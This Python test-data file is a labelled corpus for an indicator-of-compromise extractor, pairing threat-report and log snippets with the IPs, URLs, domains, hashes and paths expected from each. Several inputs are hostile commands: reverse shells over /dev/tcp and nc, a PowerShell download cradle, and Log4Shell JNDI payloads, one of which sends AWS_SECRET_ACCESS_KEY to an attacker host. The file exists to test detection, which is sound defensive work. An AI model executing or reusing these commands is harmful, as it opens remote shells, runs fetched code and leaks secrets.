# ruff: noqa: E501 - a data table of verbatim log lines; wrapping them would hide the data
r"""Labelled accuracy corpus for asisdk.ioc: realistic snippets and every trap of the policy.

Each case is the text and the complete set of indicators it holds (every type). Values are
the normalised values the policy asks for. Written by hand for this project (prose in the
style of threat reports, log and command lines in the style of the real events data), plus
templated variants that put the same indicators in different surroundings.
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Case:
    text: str
    expected: dict[str, frozenset[str]] = field(default_factory=dict)


def C(text: str, **expected: str | list[str]) -> Case:
    return Case(
        text,
        {k: frozenset([v] if isinstance(v, str) else v) for k, v in expected.items()},
    )


H_MD5 = "d41d8cd98f00b204e9800998ecf8427e"
H_SHA1 = "2fd4e1c67a2d28fced849ee1bb76e7391b93eb12"
H_SHA256 = "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8"

CASES: list[Case] = [
    # ---------------------------------------------------------------- ipv4
    C("Beacon to 185.220.101.47 every 60s.", ipv4="185.220.101.47"),
    C("src=10.0.0.5 dst=8.8.8.8 proto=udp", ipv4=["10.0.0.5", "8.8.8.8"]),
    C("C2 at 45.137.21.9:4444 (reverse shell)", ipv4="45.137.21.9"),
    C("blocked 192.168.0.0/16 and 172.16.0.0/12", ipv4=["192.168.0.0", "172.16.0.0"]),
    C("callback 203.0.113.7/443 then 203.0.113.8#53", ipv4=["203.0.113.7", "203.0.113.8"]),
    C("loopback 127.0.0.1 and broadcast 255.255.255.255", ipv4=["127.0.0.1", "255.255.255.255"]),
    C("not an IP: 256.1.1.1 or 999.999.999.999"),
    C("version 1.2.3.4 of the loader"),
    C("Version: 10.0.17763.1 installed"),
    C("agent ver 2.4.1.9 running"),
    C('{"version": "3.1.0.2", "ip": "198.51.100.23"}', ipv4="198.51.100.23"),
    C("build 5.0.2.1 shipped, v6.1.0.0 too"),
    C("Installer setup-2.1.0.4.exe dropped"),
    C("OID 1.3.6.1.4.1.311.21.8 in the certificate"),
    C("the value 1.2.3.4.5 is a longer dotted number"),
    C(
        "host \\\\10.20.30.40\\c$\\Windows\\Temp\\p.exe",
        ipv4="10.20.30.40",
        windows_path="\\\\10.20.30.40\\c$\\Windows\\Temp\\p.exe",
    ),
    C(
        "bash -i >& /dev/tcp/45.137.21.9/4444 0>&1",
        ipv4="45.137.21.9",
        linux_path="/dev/tcp/45.137.21.9/4444",
    ),
    C("nc 172.67.1.9 8080 -e /bin/sh", ipv4="172.67.1.9", linux_path="/bin/sh"),
    C("(from 91.92.240.1)", ipv4="91.92.240.1"),
    C("IP: '5.188.86.172'.", ipv4="5.188.86.172"),
    C('ip="77.83.36.2";', ipv4="77.83.36.2"),
    C("The host 8.8.4.4, then 1.1.1.1; done.", ipv4=["8.8.4.4", "1.1.1.1"]),
    C("**185.220.101.48** was the stage-1 server", ipv4="185.220.101.48"),
    C("`100.64.0.1`", ipv4="100.64.0.1"),
    C("path C:\\tools\\1.2.3.4\\bin\\x.exe", windows_path="C:\\tools\\1.2.3.4\\bin\\x.exe"),
    C("dir /opt/app/10.1.2.3/lib", linux_path="/opt/app/10.1.2.3/lib"),
    C("<10.10.10.10>", ipv4="10.10.10.10"),
    C("Firefox 115.0.2.1 update", ipv4="115.0.2.1"),  # no version marker: syntactic IP
    C("hxxp://1.2.3[.]4 and 5[.]6[.]7[.]8", url="http://1.2.3.4", ipv4=["1.2.3.4", "5.6.7.8"]),
    C("192.168.1.1.", ipv4="192.168.1.1"),
    # ---------------------------------------------------------------- ipv6
    C("IPv6 C2 2001:db8:4f2a::17 seen", ipv6="2001:db8:4f2a::17"),
    C(
        "full 2001:0db8:85a3:0000:0000:8a2e:0370:7334 form",
        ipv6="2001:0db8:85a3:0000:0000:8a2e:0370:7334",
    ),
    C("[2001:db8:85a3::8a2e:370:7334]:443 listener", ipv6="2001:db8:85a3::8a2e:370:7334"),
    C("link-local fe80::1%eth0 dropped", ipv6="fe80::1"),
    C("loopback ::1 only", ipv6="::1"),
    C("network 2001:db8::/32 blocked", ipv6="2001:db8::"),
    C("default route ::/0 and 64:ff9b::/1"),
    C("host route 2001:db8:abcd:12::1/64 in the table", ipv6="2001:db8:abcd:12::"),
    C("resolver 2001:db8:abcd:12::53/¹ (footnote 1)", ipv6="2001:db8:abcd:12::53"),
    C("mapped ::ffff:198.51.100.23 client", ipv6="::ffff:198.51.100.23", ipv4="198.51.100.23"),
    C("NAT64 64:ff9b::203.0.113.7 path", ipv6="64:ff9b::203.0.113.7", ipv4="203.0.113.7"),
    C("Time 10:30:45 and 23:59:59.123"),
    C("MAC 00:1A:2B:3C:4D:5E on eth0", mac="00:1a:2b:3c:4d:5e"),
    C("Physical Address. . . . . . . . . : 00-1A-2B-3C-4D-5F", mac="00-1a-2b-3c-4d-5f"),
    C("serial 00-1A-2B-3C-4D-5E-6F is longer than a MAC"),
    C("std::vector<int> and boost::asio::ip"),
    C("the :: operator alone"),
    C("Rust uses ab::cd paths"),
    C("FE80::A00:27FF:FE4E:66A1 upper", ipv6="fe80::a00:27ff:fe4e:66a1"),
    C("ip6 2606:4700:4700::1111, 2620:fe::fe.", ipv6=["2606:4700:4700::1111", "2620:fe::fe"]),
    C("http://[2001:db8::1]:8080/admin", url="http://[2001:db8::1]:8080/admin", ipv6="2001:db8::1"),
    C("1:2:3:4:5:6:7:8", ipv6="1:2:3:4:5:6:7:8"),
    C("12:00:00 UTC"),
    # ---------------------------------------------------------------- url
    C(
        "Payload at https://cdn.evil-host.com/a/b.php?id=5&x=1#frag.",
        url="https://cdn.evil-host.com/a/b.php?id=5&x=1#frag",
        dns="cdn.evil-host.com",
    ),
    C("hxxps://paste[.]ee/r/XyZ12", url="https://paste.ee/r/XyZ12", dns="paste.ee"),
    C(
        "hXXp://update-check[.]net/api/v2/ping?id=7781",
        url="http://update-check.net/api/v2/ping?id=7781",
        dns="update-check.net",
    ),
    C(
        "fxp://files[.]exfil-store[.]org/up/",
        url="ftp://files.exfil-store.org/up/",
        dns="files.exfil-store.org",
    ),
    C(
        "ftp://drop:Winter2024@files.exfil-store.org:2121/up/",
        url="ftp://drop:Winter2024@files.exfil-store.org:2121/up/",
        dns="files.exfil-store.org",
    ),
    C("see [link](https://paste.ee/r/XyZ12)", url="https://paste.ee/r/XyZ12", dns="paste.ee"),
    C(
        "(see https://en.wikipedia.org/wiki/Foo_(bar))",
        url="https://en.wikipedia.org/wiki/Foo_(bar)",
        dns="en.wikipedia.org",
    ),
    C("<https://evil.com/x>", url="https://evil.com/x", dns="evil.com"),
    C("'http://evil.com/a'|grep x", url="http://evil.com/a", dns="evil.com"),
    C('"https://evil.com/q?x=1"', url="https://evil.com/q?x=1", dns="evil.com"),
    C("`https://evil.com/code`", url="https://evil.com/code", dns="evil.com"),
    C("**https://evil.com/bold**", url="https://evil.com/bold", dns="evil.com"),
    C("http://evil.com/a|b", url="http://evil.com/a", dns="evil.com"),
    C(
        "访问 http://evil-cn.example.com/a.php？谢谢",
        url="http://evil-cn.example.com/a.php",
        dns="evil-cn.example.com",
    ),
    C("链接：https://evil.cn/x。", url="https://evil.cn/x", dns="evil.cn"),
    C("攻击者访问evil-cn.example.com后下载了木马", dns="evil-cn.example.com"),
    C("請參閱http://evil.tw/a。", url="http://evil.tw/a", dns="evil.tw"),
    C("https://evil.com/%2e%2e/etc", url="https://evil.com/%2e%2e/etc", dns="evil.com"),
    C(
        "redirect https://t.co/r?u=https://evil.org/land.html",
        url=["https://t.co/r?u=https://evil.org/land.html", "https://evil.org/land.html"],
        dns=["t.co", "evil.org"],
    ),
    C("wss://ws.evil.io:8443/sock", url="wss://ws.evil.io:8443/sock", dns="ws.evil.io"),
    C("sftp://user@backup.corp.net/x", url="sftp://user@backup.corp.net/x", dns="backup.corp.net"),
    C("http://10.0.0.5:8080/shell.jsp", url="http://10.0.0.5:8080/shell.jsp", ipv4="10.0.0.5"),
    C("http://intranet/login", url="http://intranet/login"),
    C("http://payload.zip/x", url="http://payload.zip/x", dns="payload.zip"),
    C(
        f"https://evil.com/dl/{H_MD5}.bin",
        url=f"https://evil.com/dl/{H_MD5}.bin",
        dns="evil.com",
        md5=H_MD5,
    ),
    C("https://evil.com/files/report.pdf", url="https://evil.com/files/report.pdf", dns="evil.com"),
    C("https://evil.com/install.sh", url="https://evil.com/install.sh", dns="evil.com"),
    C("HTTPS://EVIL.COM/Path", url="https://evil.com/Path", dns="evil.com"),
    C(
        "mshta.exe hxxps://cdn.invoice-portal[.]com/track.hta",
        url="https://cdn.invoice-portal.com/track.hta",
        dns="cdn.invoice-portal.com",
    ),
    C("https://evil.com.", url="https://evil.com", dns="evil.com"),
    C(
        "https://evil.com/a, https://evil.com/b; end",
        url=["https://evil.com/a", "https://evil.com/b"],
        dns="evil.com",
    ),
    C("curl -o x http://185.199.1.2/a.sh", url="http://185.199.1.2/a.sh", ipv4="185.199.1.2"),
    C("see _https://evil.com/u_", url="https://evil.com/u", dns="evil.com"),
    C(
        "iex(New-Object Net.WebClient).DownloadString('http://10.1.1.9/ps.ps1')",
        url="http://10.1.1.9/ps.ps1",
        ipv4="10.1.1.9",
    ),
    C(
        "https://xn--e1afmkfd.xn--p1ai/",
        url="https://xn--e1afmkfd.xn--p1ai/",
        dns="xn--e1afmkfd.xn--p1ai",
    ),
    # ---------------------------------------------------------------- dns
    C(
        "Domains: evil.com, bad-actor.net and c2.example.org.",
        dns=["evil.com", "bad-actor.net", "c2.example.org"],
    ),
    C("resolve WWW.EVIL.COM", dns="www.evil.com"),
    C("evil[.]com and bad(.)net and worse{.}org", dns=["evil.com", "bad.net", "worse.org"]),
    C("evil[dot]com / x(dot)ru / a [dot] b [dot] info", dns=["evil.com", "x.ru", "a.b.info"]),
    C("evil\\.com was defanged with a backslash", dns="evil.com"),
    C("The payload was dropped.It then ran."),
    C("It was done.Then it left."),
    C("New-Object System.Net.WebClient"),
    C("[System.Text.Encoding]::Unicode.GetString($x)"),
    C("$wc.DownloadFile($u, $p)"),
    C("WScript.Shell.Run launched it"),
    C('CreateObject("WScript.Shell").Run cmd'),
    C("powershell wscript.shell used to download a .gif"),
    C("using System.IO; using System.Net;"),
    C("Shell.Application namespace"),
    C("wscript[.]shell is not a domain... unless defanged", dns="wscript.shell"),
    C("dropped payload.zip then install.sh and README.md"),
    C("payload[.]zip was hosted", dns="payload.zip"),
    C("name resolution for fake.notatld failed"),
    C("corp.local and host.internal are internal"),
    C("files in C:\\Users\\bob\\evil.com\\x.exe", windows_path="C:\\Users\\bob\\evil.com\\x.exe"),
    C("/var/www/evil.com/index.php", linux_path="/var/www/evil.com/index.php"),
    C("query _dmarc.example.com TXT", dns="_dmarc.example.com"),
    C("пример.рф и почта", dns="пример.рф"),
    C("xn--80ak6aa92e.com", dns="xn--80ak6aa92e.com"),
    C("evil.com:8443 listens", dns="evil.com"),
    C("evil.com/path/x", dns="evil.com"),
    C("aka.ms/abc", dns="aka.ms"),
    C("Contact Evil.Com now", dns="evil.com"),
    C("powershell.exe -nop -w hidden"),
    C("rundll32.exe shell32.dll,Control_RunDLL"),
    C("Invoke-Expression.ps1 script"),
    C("the file config.json and app.log"),
    C("sub.domain.co.uk", dns="sub.domain.co.uk"),
    C("4.3.2.1.in-addr.arpa PTR", dns="4.3.2.1.in-addr.arpa"),
    C("www.evil.com.", dns="www.evil.com"),
    C("mail.google.com:443", dns="mail.google.com"),
    C("Pi is 3.14 and e is 2.71"),
    C("at 12.5% rate"),
    C("lib.so.6 and libc.so"),
    C("id_rsa.pub uploaded"),
    C("Main.java compiled"),
    C("CMD.EXE-4A81B364.pf prefetch"),
    C("update.microsoft.com (legit)", dns="update.microsoft.com"),
    C("evil-domain.xyz, evil-domain.top", dns=["evil-domain.xyz", "evil-domain.top"]),
    C("*.evil.com wildcard", dns="evil.com"),
    C("markdown _evil-md.com_ and *evil-md.net*", dns=["evil-md.com", "evil-md.net"]),
    C("_ldap._tcp.dc._msdcs.corp.example.com SRV", dns="_ldap._tcp.dc._msdcs.corp.example.com"),
    C("host=ws01.corp.contoso.com user=bob", dns="ws01.corp.contoso.com"),
    C("CONTOSO\\alice logged on"),
    # ---------------------------------------------------------------- email
    C(
        "From: billing@invoice-portal.com",
        email="billing@invoice-portal.com",
        dns="invoice-portal.com",
    ),
    C(
        "billing[@]invoice-portal[.]com sent it",
        email="billing@invoice-portal.com",
        dns="invoice-portal.com",
    ),
    C("soc (at) example.com", email="soc@example.com", dns="example.com"),
    C(
        "john.doe+tag@Mail.Example.ORG",
        email="john.doe+tag@mail.example.org",
        dns="mail.example.org",
    ),
    C("<ir-team@example.org>", email="ir-team@example.org", dns="example.org"),
    C("admin@пример.рф", email="admin@пример.рф", dns="пример.рф"),
    C("user@host.local is internal"),
    C("news.ycombinator.com", dns="news.ycombinator.com"),
    C("git@github.com:org/repo.git", email="git@github.com", dns="github.com"),
    C("alice[at]evil[dot]com", email="alice@evil.com", dns="evil.com"),
    C("@twitterhandle says hi"),
    # ---------------------------------------------------------------- hashes
    C(f"MD5 {H_MD5}", md5=H_MD5),
    C(f"SHA1: {H_SHA1.upper()}", sha1=H_SHA1),
    C(f"sha256={H_SHA256}", sha256=H_SHA256),
    C(f"0x{H_MD5} is a constant"),
    C(f"{H_MD5}ab is too long for md5"),
    C(f"{H_SHA256}00 too long"),
    C("{6F9619FF-8B86-D011-B42D-00C04FC964FF} is a GUID"),
    C("e396fc5e-a5c5-4589-8b56-7124f33ee1a9 ClassId"),
    C(f"file_{H_MD5}.exe", md5=H_MD5),
    C(f"{H_SHA1}.bin", sha1=H_SHA1),
    C(f"FilePII_{H_SHA1}.ps1", sha1=H_SHA1),
    C(f"hashes: {H_MD5},{H_SHA1};{H_SHA256}", md5=H_MD5, sha1=H_SHA1, sha256=H_SHA256),
    C(f"C:\\Temp\\{H_MD5}.dll", windows_path=f"C:\\Temp\\{H_MD5}.dll", md5=H_MD5),
    C(f"/tmp/{H_SHA256}", linux_path=f"/tmp/{H_SHA256}", sha256=H_SHA256),
    C("cap_fp=0000000000000000 is short"),
    C(f"g{H_MD5} glued to a letter"),
    C(f"| {H_SHA256} | sample |", sha256=H_SHA256),
    C(f"**{H_MD5}**", md5=H_MD5),
    # ---------------------------------------------------------------- windows_path
    C("C:\\Windows\\System32\\cmd.exe /c whoami", windows_path="C:\\Windows\\System32\\cmd.exe"),
    C(
        '"C:\\Program Files (x86)\\Common Files\\Updater\\svc_host.exe" -k',
        windows_path="C:\\Program Files (x86)\\Common Files\\Updater\\svc_host.exe",
    ),
    C("'C:\\Program Files\\App\\app.exe'", windows_path="C:\\Program Files\\App\\app.exe"),
    C("%APPDATA%\\Microsoft\\upd.exe", windows_path="%APPDATA%\\Microsoft\\upd.exe"),
    C("$env:TEMP\\stage2.ps1", windows_path="$env:TEMP\\stage2.ps1"),
    C(
        "\\\\fileserver\\share\\tools\\psexec.exe",
        windows_path="\\\\fileserver\\share\\tools\\psexec.exe",
    ),
    C(
        "\\\\storage.exfil-store.org@SSL\\DavWWWRoot\\inbox\\",
        windows_path="\\\\storage.exfil-store.org@SSL\\DavWWWRoot\\inbox\\",
        dns="storage.exfil-store.org",
    ),
    C(
        "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        registry_key="HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    ),
    C(
        "HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command",
        registry_key="HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command",
    ),
    C("CORP\\svc_backup account"),
    C("relative tools\\bin\\x.exe path"),
    C("..\\..\\windows\\win.ini traversal"),
    C("D:\\data\\dump.dmp.", windows_path="D:\\data\\dump.dmp"),
    C("(C:\\Windows\\Temp\\a.bat)", windows_path="C:\\Windows\\Temp\\a.bat"),
    C(
        "C:\\Users\\alice\\AppData\\Local\\Temp\\x.exe, then",
        windows_path="C:\\Users\\alice\\AppData\\Local\\Temp\\x.exe",
    ),
    C("c:\\windows\\syswow64\\rundll32.exe", windows_path="c:\\windows\\syswow64\\rundll32.exe"),
    C(
        "%SystemRoot%\\system32\\svchost.exe -k netsvcs",
        windows_path="%SystemRoot%\\system32\\svchost.exe",
    ),
    C("cmd.exe /c copy a b"),
    # ---------------------------------------------------------------- linux_path
    C("cat /etc/passwd", linux_path="/etc/passwd"),
    C("dropped /tmp/.X11-unix/.kworker", linux_path="/tmp/.X11-unix/.kworker"),
    C("~/.ssh/authorized_keys modified", linux_path="~/.ssh/authorized_keys"),
    C('exe="/usr/bin/sudo"', linux_path="/usr/bin/sudo"),
    C("GET /index.php?id=1 HTTP/1.1"),
    C("POST /wp-admin/admin-ajax.php HTTP/1.1"),
    C("and/or TCP/IP Mozilla/5.0 AppleWebKit/537.36"),
    C("cmd /c dir /s"),
    C("the /tmp directory"),
    C("/etc/cron.d/sysupdate, then", linux_path="/etc/cron.d/sysupdate"),
    C("chmod +x /var/tmp/x && /var/tmp/x", linux_path="/var/tmp/x"),
    C("PATH=/usr/local/bin:/usr/bin", linux_path=["/usr/local/bin", "/usr/bin"]),
    C("https://evil.com/usr/share/x", url="https://evil.com/usr/share/x", dns="evil.com"),
    C("evil.com/usr/share/x", dns="evil.com"),
    C("N/A and w/o"),
    C("(/opt/evil/run.sh)", linux_path="/opt/evil/run.sh"),
    C("/lib64/ld-linux-x86-64.so.2", linux_path="/lib64/ld-linux-x86-64.so.2"),
    # ---------------------------------------------------------------- cve / mac / mixed
    C("exploits CVE-2023-23397 and cve-2021-44228", cve=["CVE-2023-23397", "CVE-2021-44228"]),
    C(
        '10.0.0.1 - - [10/Oct/2023:13:55:36 -0700] "GET /a/b.php HTTP/1.1" 200 2326',
        ipv4="10.0.0.1",
    ),
    # ---------------------------------------------------------------- typographic punctuation
    # Reports pasted from word processors: curly quotes, guillemets, dashes, ellipses.
    C(
        "The loader fetched “https://cdn-update.net/stage2.bin” before reboot.",
        url="https://cdn-update.net/stage2.bin",
        dns="cdn-update.net",
    ),
    C("Beacon host: “http://185.220.101.47”.", url="http://185.220.101.47", ipv4="185.220.101.47"),
    C(
        "the actor’s domain ‘telemetry-sync.com’ resolved to 91.92.240.1’s block",
        dns="telemetry-sync.com",
        ipv4="91.92.240.1",
    ),
    C(
        "Le serveur «http://mise-a-jour.fr/p.php» hébergeait la charge",
        url="http://mise-a-jour.fr/p.php",
        dns="mise-a-jour.fr",
    ),
    C(
        "Downloads from http://evil-cdn.org/a…",
        url="http://evil-cdn.org/a",
        dns="evil-cdn.org",
    ),
    C(
        "C2—http://c2.badhost.io:8443/gate—was sinkholed",
        url="http://c2.badhost.io:8443/gate",
        dns="c2.badhost.io",
    ),
    C("fallback domains: alpha-c2.net–beta-c2.net", dns=["alpha-c2.net", "beta-c2.net"]),
    C(
        "攻击者使用http://update.example-cn.com/x.exe。随后连接",
        url="http://update.example-cn.com/x.exe",
        dns="update.example-cn.com",
    ),
    C(
        "回连地址：45.137.21.9，端口4444、域名evil-cn.net。",
        ipv4="45.137.21.9",
        dns="evil-cn.net",
    ),
    C(
        "Der Link „https://rechnung-portal.de/inv“ führte zum Phishing",
        url="https://rechnung-portal.de/inv",
        dns="rechnung-portal.de",
    ),
    C(
        "dropped “C:\\Users\\Public\\svc.exe” and ‘/tmp/.x/kworker’",
        windows_path="C:\\Users\\Public\\svc.exe",
        linux_path="/tmp/.x/kworker",
    ),
    C("«ops@phish-kit.com» sent the lure", email="ops@phish-kit.com", dns="phish-kit.com"),
    C("Hash “d41d8cd98f00b204e9800998ecf8427e”…", md5="d41d8cd98f00b204e9800998ecf8427e"),
    C("She said “it’s fine” — nothing else…"),
    # ---------------------------------------------------------------- markdown / wiki links
    C(
        "See [the dropper](https://files.evil-share.com/d.zip) for details.",
        url="https://files.evil-share.com/d.zip",
        dns="files.evil-share.com",
    ),
    C(
        "- [https://login-micros0ft.com/auth](https://login-micros0ft.com/auth)",
        url="https://login-micros0ft.com/auth",
        dns="login-micros0ft.com",
    ),
    C(
        "[http://phish.example.net](http://phish.example.net)",
        url="http://phish.example.net",
        dns="phish.example.net",
    ),
    C(
        "Autolink <https://paste-bin.xyz/raw/Ab12> in the README",
        url="https://paste-bin.xyz/raw/Ab12",
        dns="paste-bin.xyz",
    ),
    C(
        "wiki note: [[https://intel.badactor.org/report]] (archived)",
        url="https://intel.badactor.org/report",
        dns="intel.badactor.org",
    ),
    C(
        "(mirror: [here](http://mirror.badactor.org/a/b))",
        url="http://mirror.badactor.org/a/b",
        dns="mirror.badactor.org",
    ),
    C(
        "![screenshot](https://img.evil-cdn.org/s.png)",
        url="https://img.evil-cdn.org/s.png",
        dns="img.evil-cdn.org",
    ),
    C(
        "forum post: [url=http://free-keys.evil.ws/get]free keys[/url]",
        url="http://free-keys.evil.ws/get",
        dns="free-keys.evil.ws",
    ),
    C(
        "[url]https://warez-drop.net/crack.rar[/url] [IMG]http://i.warez-drop.net/a.png[/IMG]",
        url=["https://warez-drop.net/crack.rar", "http://i.warez-drop.net/a.png"],
        dns=["warez-drop.net", "i.warez-drop.net"],
    ),
    C(
        "PHP arrays stay: http://shop-evil.com/cart?id[]=1&f[x]=2",
        url="http://shop-evil.com/cart?id[]=1&f[x]=2",
        dns="shop-evil.com",
    ),
    C(
        "¿Visitó http://premio-falso.es/ganar? ¡http://premio-falso.es/ya!",
        url=["http://premio-falso.es/ganar", "http://premio-falso.es/ya"],
        dns="premio-falso.es",
    ),
    # ---------------------------------------------------------------- cisco MAC
    C("show mac address-table: 0050.56c0.0001 DYNAMIC Gi1/0/3", mac="0050.56c0.0001"),
    C("arp entry 10.1.1.20 -> AABB.CCDD.EEFF on Vlan10", ipv4="10.1.1.20", mac="aabb.ccdd.eeff"),
    C("firmware build 2021.0415.1200 deployed"),
    C(
        "Internet  10.20.1.5   12   001a.2b3c.4d5e  ARPA   Vlan20. Next: 001A.2B3C.4D5F.",
        ipv4="10.20.1.5",
        mac=["001a.2b3c.4d5e", "001a.2b3c.4d5f"],
    ),
    C("the host 0050.56c0.0001.example is not a MAC"),
    # ---------------------------------------------------------------- non-web URL schemes
    C(
        "User-Agent: ${jndi:ldap://198.51.100.7:1389/a}",
        url="ldap://198.51.100.7:1389/a",
        ipv4="198.51.100.7",
    ),
    C(
        "X-Api-Version: ${jndi:rmi://log4j-c2.net:1099/Exploit}",
        url="rmi://log4j-c2.net:1099/Exploit",
        dns="log4j-c2.net",
    ),
    C(
        "${jndi:dns://probe.oast-callback.com/x} ${jndi:LDAPS://203.0.113.9/o}",
        url=["dns://probe.oast-callback.com/x", "ldaps://203.0.113.9/o"],
        dns="probe.oast-callback.com",
        ipv4="203.0.113.9",
    ),
    C(
        "net use from smb://fileserver.corp-evil.com/share and iiop://203.0.113.10:900/x",
        url=["smb://fileserver.corp-evil.com/share", "iiop://203.0.113.10:900/x"],
        dns="fileserver.corp-evil.com",
        ipv4="203.0.113.10",
    ),
    C(
        "ncat relay tcp://45.137.21.9:4444 udp://45.137.21.10:53",
        url=["tcp://45.137.21.9:4444", "udp://45.137.21.10:53"],
        ipv4=["45.137.21.9", "45.137.21.10"],
    ),
    C(
        "exfil via sftp://drop@exfil-host.net:2222/in and ssh://root@203.0.113.11",
        url=["sftp://drop@exfil-host.net:2222/in", "ssh://root@203.0.113.11"],
        dns="exfil-host.net",
        ipv4="203.0.113.11",
    ),
    C(
        "open telnet://198.51.100.20, rdp://jump.badcorp.io and vnc://198.51.100.21:5901",
        url=["telnet://198.51.100.20", "rdp://jump.badcorp.io", "vnc://198.51.100.21:5901"],
        ipv4=["198.51.100.20", "198.51.100.21"],
        dns="jump.badcorp.io",
    ),
    C(
        "bot joins irc://irc.botnet-chat.net:6667/#ops and clones git://git.evil-repo.org/x.git",
        url=["irc://irc.botnet-chat.net:6667/#ops", "git://git.evil-repo.org/x.git"],
        dns=["irc.botnet-chat.net", "git.evil-repo.org"],
    ),
    C(
        "aws s3 cp s3://stolen-data-bucket/dump.tar.gz . ; file:///etc/shadow opened",
        url=["s3://stolen-data-bucket/dump.tar.gz", "file:///etc/shadow"],
    ),
    C(
        "lure pointed to FILE://203.0.113.12/share/invoice.lnk",
        url="file://203.0.113.12/share/invoice.lnk",
        ipv4="203.0.113.12",
    ),
    C(
        "pushes to git+ssh://git@code-exfil.net/loot.git",
        url="git+ssh://git@code-exfil.net/loot.git",
        dns="code-exfil.net",
    ),
    C("the text ldap:// alone, or tcp:// with nothing after"),
    # ---------------------------------------------------------------- ipv4 leading zeros
    C(
        "copy to \\\\010.020.030.040\\c$\\x.exe",
        ipv4="10.20.30.40",
        windows_path="\\\\010.020.030.040\\c$\\x.exe",
    ),
    C(
        "bash -i >& /dev/tcp/045.137.021.009/4444",
        ipv4="45.137.21.9",
        linux_path="/dev/tcp/045.137.021.009/4444",
    ),
    C("octet 0177.0.0.1 has four digits: not an address"),
    C(
        "mapped ::ffff:010.001.002.003 in the proxy log",
        ipv6="::ffff:10.1.2.3",
        ipv4="10.1.2.3",
    ),
    C(
        "X-Forwarded-For: ${jndi:ldap://log4j-c2.net:1389/${env:AWS_SECRET_ACCESS_KEY}}",
        url="ldap://log4j-c2.net:1389/",
        dns="log4j-c2.net",
    ),
    C("ping 010.001.002.003 (octal-looking)", ipv4="10.1.2.3"),
    C("src=192.168.001.010 dst=008.008.008.008", ipv4=["192.168.1.10", "8.8.8.8"]),
    C("hxxp://045.137.021.009/a", url="http://045.137.021.009/a", ipv4="45.137.21.9"),
]


# ------------------------------------------------------------------ templated variants
_SURROUNDINGS = [
    "{x}",
    "Indicator: {x}.",
    "({x})",
    '"{x}"',
    "- {x}, seen twice",
    "| {x} | malicious |",
    "`{x}`",
    "<{x}>",
    "IOC={x};",
    "**{x}**",
    "“{x}”",
    "‘{x}’",
    "«{x}»",
    "„{x}“",
    "Seen {x}… then",
    "{x} — blocked",
    "指标：{x}。",
]
_INDICATORS: list[tuple[str, dict[str, str]]] = [
    ("203.0.113.45", {"ipv4": "203.0.113.45"}),
    ("203.0.113[.]46", {"ipv4": "203.0.113.46"}),
    ("malware-drop.net", {"dns": "malware-drop.net"}),
    ("malware-drop[.]org", {"dns": "malware-drop.org"}),
    (
        "https://malware-drop.net/p/a.exe",
        {"url": "https://malware-drop.net/p/a.exe", "dns": "malware-drop.net"},
    ),
    (
        "hxxp://malware-drop[.]info/x",
        {"url": "http://malware-drop.info/x", "dns": "malware-drop.info"},
    ),
    (H_SHA256, {"sha256": H_SHA256}),
    (H_SHA1, {"sha1": H_SHA1}),
    (H_MD5, {"md5": H_MD5}),
    ("2001:db8::dead:beef", {"ipv6": "2001:db8::dead:beef"}),
    ("ops@malware-drop.net", {"email": "ops@malware-drop.net", "dns": "malware-drop.net"}),
    ("C:\\ProgramData\\x\\y.dll", {"windows_path": "C:\\ProgramData\\x\\y.dll"}),
    ("/usr/lib/x/y.so", {"linux_path": "/usr/lib/x/y.so"}),
    ("CVE-2024-3094", {"cve": "CVE-2024-3094"}),
]
_NEGATIVES = [
    "version 4.3.2.1",
    "System.Net.Sockets",
    "payload.zip",
    "dropped.It",
    "12:34:56",
    "std::string",
    f"0x{H_SHA1}",
    "1.2.3.4.5.6",
    "TCP/IP",
    "/c",
]

for _wrap in _SURROUNDINGS:
    for _ind, _exp in _INDICATORS:
        CASES.append(C(_wrap.format(x=_ind), **_exp))
    for _neg in _NEGATIVES:
        CASES.append(C(_wrap.format(x=_neg)))


# ------------------------------------------------------------------ real event lines
# Command lines taken verbatim from ../shared/data/events (msticpy and OTRF test data, MIT),
# labelled by hand against the policy before running the extractor on them.
_P1 = "645f5cd0404c4e1e192b246101c6588b1cef1c74"
_F1 = "4af465eb4ec83ac8e168ff1d34590ffde46406b7"
_IP1 = "34efea060f868c5f5bc11a7a04255476d926f4b7"
CASES += [
    C(r".\regsvr32   /s /n /u /i:http://server/file.sct scrobj.dll", url="http://server/file.sct"),
    C(
        r'taskhostw.exe "C:\Program Files\Common Files\Microsoft Shared\ClickToRun\OfficeC2RClient.exe"'
        " /frequentupdate SCHEDULEDTASK displaylevel=False",
        windows_path=r"C:\Program Files\Common Files\Microsoft Shared\ClickToRun\OfficeC2RClient.exe",
    ),
    C(
        '"msedge.exe" --single-argument microsoft-edge:https://go.microsoft.com/fwlink/?LinkId=528884',
        url="https://go.microsoft.com/fwlink/?LinkId=528884",
        dns="go.microsoft.com",
    ),
    C(
        "certutil  -urlcache -split -f http://127.0.0.1/ ",
        url="http://127.0.0.1/",
        ipv4="127.0.0.1",
    ),
    C(r"net  share TestShare=c:\testshare /Grant:Users,Read", windows_path=r"c:\testshare"),
    C(
        r"MpSigStub.exe /stub 1.1.17800.4 /payload 1.341.1331.0 /MpWUStub /program "
        r"C:\Windows\SoftwareDistribution\Download\Install\AM_Delta_Patch_1.341.1260.0.exe WD /q",
        windows_path=r"C:\Windows\SoftwareDistribution\Download\Install\AM_Delta_Patch_1.341.1260.0.exe",
    ),
    C('"LogTransport2.exe" 58F761C05F236BDC0A495FBA@AdobeID 0 0 NOVALUE NOVALUE'),
    C('"91.0.4472.114_91.0.4472.106_chrome_updater.exe" --verbose-logging --channel=stable'),
    C("ping  -n 1 www.bingnewspaper.com", dns="www.bingnewspaper.com"),
    C(
        '"msedge.exe" --single-argument https://drive.google.com/file/d/1TDk3O5c-rObQ4pO6LmitCFduw1OqW1SK/view',
        url="https://drive.google.com/file/d/1TDk3O5c-rObQ4pO6LmitCFduw1OqW1SK/view",
        dns="drive.google.com",
    ),
    C(
        'cmd  /c "echo Invoke-Expression Get-Process; Invoke-WebRequest -Uri http://badguyserver/pwnme" ',
        url="http://badguyserver/pwnme",
    ),
    C(
        r"netsh  start capture=yes IPv4.Address=1.2.3.4 tracefile=C:\\Users\\user\\AppData\\Local\\Temp\\bzzzzzz.txt",
